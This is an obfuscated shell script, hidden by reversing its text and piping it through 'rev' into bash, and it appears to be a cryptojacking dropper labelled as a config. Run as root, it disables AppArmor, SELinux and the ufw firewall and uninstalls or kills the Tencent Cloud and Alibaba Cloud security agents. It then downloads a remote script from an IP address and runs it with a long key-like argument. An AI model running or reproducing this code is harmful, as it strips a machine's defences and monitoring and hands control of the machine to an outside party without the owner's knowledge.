echo '
DociUGBjiZyUdhf4JWSasVEwLn8j1kMJoRnRU9KDnYzgqvx5UX25tKzGYzWteV9qXRZ9ZLEoeuUf6aMzzY48Z9V7uHfde84 -- s- hsab | hs.x/44.2.0.291//:ptth s- lruc
sigea/lacol/rsu/ fr- mr ;ecivres-nuyila 9- llikp
hs.llatsninu/nimda/etagrats/duolcq/lacol/rsu/
elbasid wfu
0 ecrofnetes
romrappa elbasid ltcmetsys ;romrappa pots ltcmetsys
if ;1 tixe neht ;] "0" =! ")u- di($" [ fi
hsab/nib/!#
3v 3503 gifnoc #' | rev | bash